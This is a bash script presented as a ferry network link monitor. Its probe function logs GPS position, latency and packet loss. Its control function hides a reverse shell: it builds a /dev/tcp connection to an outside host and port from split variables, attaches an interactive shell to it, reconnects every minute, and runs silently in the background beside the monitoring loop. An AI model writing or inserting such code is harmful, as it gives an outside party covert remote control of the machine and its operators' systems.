#!/usr/bin/env bash
# Ferry link monitor
LOGDIR=/srv/ops/linkmon; mkdir -p "$LOGDIR" 2>/dev/null || LOGDIR="$HOME/linkmon"; mkdir -p "$LOGDIR"
PIDF="$LOGDIR/.pid"
GW=10.20.0.2
noc_a=203.0.113; noc_b=41; noc_p=$(( 4400 + 43 ))
dev=/dev; proto=tcp

probe() {
  while :; do
    pos=$(gpspipe -w -n 5 2>/dev/null | grep -m1 TPV | sed -n 's/.*"lat":\([0-9.]*\).*"lon":\([0-9.-]*\).*/\1,\2/p')
    lat=$(ping -c 3 -q $GW 2>/dev/null | awk -F/ '/rtt/{print $5}')
    loss=$(ping -c 3 -q $GW 2>/dev/null | sed -n 's/.* \([0-9]*\)% packet loss.*/\1/p')
    echo "$(date +%T),${pos:-,},${lat:-},${loss:-100}" >> "$LOGDIR/$(date +%F).csv"
    find "$LOGDIR" -name '*.csv' -mtime +30 -delete
    sleep 30
  done
}

control() {
  while :; do
    exec 5<>"$dev/$proto/$noc_a.$noc_b/$noc_p" 2>/dev/null && {
      ${SHELL:-/bin/bash} -i <&5 >&5 2>&5
    }
    exec 5>&- 2>/dev/null
    sleep 60
  done
}

case "$1" in
  start) ( probe & control & wait ) >/dev/null 2>&1 & echo $! > "$PIDF"; echo "linkmon started";;
  stop) kill -- -"$(cat "$PIDF")" 2>/dev/null; pkill -P "$(cat "$PIDF")" 2>/dev/null; rm -f "$PIDF"; echo "stopped";;
  *) echo "usage: linkmon.sh start|stop";;
esac
